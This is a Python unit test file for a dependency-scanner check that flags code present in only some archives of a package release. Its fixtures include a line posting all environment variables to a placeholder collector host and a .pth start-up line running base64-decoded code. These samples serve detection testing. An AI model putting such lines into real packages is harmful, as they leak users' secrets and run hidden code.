"""Archives of one release compared with each other."""

from __future__ import annotations

from depscan.artifacts.open import open_bytes
from depscan.checks.whole_release import CHECK
from depscan.facts.code_files import CodeFiles, digests_of
from depscan.facts.engine import inspect_data
from depscan.facts.inspected import Inspected
from depscan.facts.packages import Looked
from depscan.model.finding import Finding
from tests.unit.artifacts.builders import Files, tar_of, zip_of
from tests.unit.checks.facts import context, document, outcome, package

PAYLOAD = "import os\nimport requests\nrequests.post('https://collector.invalid/in', json=dict(os.environ))\n"
CALM = "def main():\n    return 1\n"
SETUP = "from setuptools import setup\nsetup()\n"


def wheel(source: str = CALM, tag: str = "py3-none-any", version: str = "1.0", **more: str) -> Inspected:
    files: Files = {
        "alpha/__init__.py": source,
        f"alpha-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: alpha\nVersion: {version}\n",
        f"alpha-{version}.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"alpha-{version}.dist-info/RECORD": "",
        **more,
    }
    return inspect_data(zip_of(files), f"alpha-1.0-{tag}.whl")


def sdist(source: str = CALM, setup: str = SETUP, **more: str) -> Inspected:
    files: Files = {
        "alpha-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: alpha\nVersion: 1.0\n",
        "alpha-1.0/setup.py": setup,
        "alpha-1.0/src/alpha/__init__.py": source,
        **{f"alpha-1.0/{path}": text for path, text in more.items()},
    }
    return inspect_data(tar_of(files), "alpha-1.0.tar.gz")


def found(*items: Inspected) -> list[Finding]:
    given = context(document(package("alpha", "1.0")))
    [key] = given.graph.nodes
    named = tuple(item._replace(subject=key) for item in items)
    return outcome(CHECK, given._replace(artifacts=named, looked=Looked()))[0]


def test_archives_of_the_same_source_say_nothing() -> None:
    assert found(wheel(), sdist()) == []
    assert found(wheel(PAYLOAD), sdist(PAYLOAD)) == [], "what both do is for the other rules"


def test_a_payload_only_in_the_sdists_module_shows() -> None:
    [one] = found(wheel(), sdist(PAYLOAD))
    assert one.rule == "integrity/release-differs"
    assert one.message.startswith("only alpha-1.0.tar.gz has src/alpha/__init__.py:3 ")
    assert one.message.endswith("alpha-1.0-py3-none-any.whl of the same release lack it")
    assert one.primary.container == ("alpha-1.0.tar.gz",)


def test_a_payload_only_in_the_sdists_build_shows() -> None:
    assert [f.rule for f in found(wheel(), sdist(setup=PAYLOAD + SETUP))] == ["integrity/release-differs"]


def test_a_payload_only_in_one_platforms_wheel_shows() -> None:
    [one] = found(wheel(), wheel(tag="cp311-cp311-win_amd64"), wheel(PAYLOAD, "cp311-cp311-linux_x86_64"))
    assert "only alpha-1.0-cp311-cp311-linux_x86_64.whl" in one.message


def test_a_start_up_line_in_one_wheel_shows() -> None:
    start = {"alpha.pth": "import os; exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"}
    assert [f.rule for f in found(wheel(**start), sdist())] == ["integrity/release-differs"]


def test_a_setup_script_that_asks_git_and_tools_in_the_sdist_are_usual() -> None:
    setup = (
        "import subprocess\nsubprocess.check_output(['git', 'describe'])\nexec(open('src/alpha/v.py').read())\n" + SETUP
    )
    tools = {"tools/release.py": "import requests\ndef go(url):\n    requests.post(url)\n", "tests/test_a.py": PAYLOAD}
    assert found(wheel(), sdist(setup=setup, **tools)) == []


def test_an_archive_that_calls_itself_another_version_shows() -> None:
    [one] = found(wheel(version="2.0"))
    assert one.rule == "integrity/archive-names-another"
    assert one.message == "alpha-1.0-py3-none-any.whl calls itself alpha 2.0, and stands for alpha 1.0"


def test_one_archive_alone_and_artifacts_that_nobody_looked_for_say_nothing() -> None:
    assert found(wheel(PAYLOAD)) == []
    given = context(document(package("alpha", "1.0")))
    assert outcome(CHECK, given._replace(artifacts=(wheel(version="2.0"),)))[0] == []


def contents(*held: CodeFiles) -> list[str]:
    given = context(document(package("alpha", "1.0")))
    [key] = given.graph.nodes
    return [f.message for f in outcome(CHECK, given._replace(looked=Looked(releases={key: held})))[0]]


WHEEL = CodeFiles("alpha.whl", "wheel", {"alpha/__init__.py": "1", "alpha/core.py": "2"})


def test_code_that_differs_between_archives_is_a_low_finding() -> None:
    swapped = CodeFiles("alpha.tar.gz", "sdist", {"alpha/__init__.py": "9", "alpha/core.py": "2", "setup.py": "3"})
    assert contents(WHEEL, swapped) == ["of 2 archives, alpha/__init__.py has other content in alpha.tar.gz"]
    more = CodeFiles("alpha.tar.gz", "sdist", {**WHEEL.digests, "alpha/extra.py": "4"})
    assert contents(WHEEL, more) == ["of 2 archives, alpha/extra.py is missing in alpha.whl"]


def test_an_sdist_keeps_its_code_where_it_likes() -> None:
    kept = CodeFiles("alpha.tar.gz", "sdist", {f"bindings/py_src/{p}": d for p, d in WHEEL.digests.items()})
    assert contents(WHEEL, kept) == []


def test_code_files_are_known_by_content_without_tests_and_line_ends() -> None:
    files = {"a-1/PKG-INFO": "Name: a\n", "a-1/src/a/__init__.py": "x = 1\r\n", "a-1/tests/test_a.py": "y = 1\n"}
    wheel_files = {"a/__init__.py": "x = 1\n", "a-1.dist-info/WHEEL": "", "a-1.dist-info/METADATA": ""}
    one = digests_of(open_bytes(tar_of(files), "a-1.tar.gz"))
    two = digests_of(open_bytes(zip_of(wheel_files), "a-1-py3-none-any.whl"))
    assert (one.kind, two.kind) == ("sdist", "wheel")
    assert one.digests == two.digests
    assert list(one.digests) == ["a/__init__.py"]
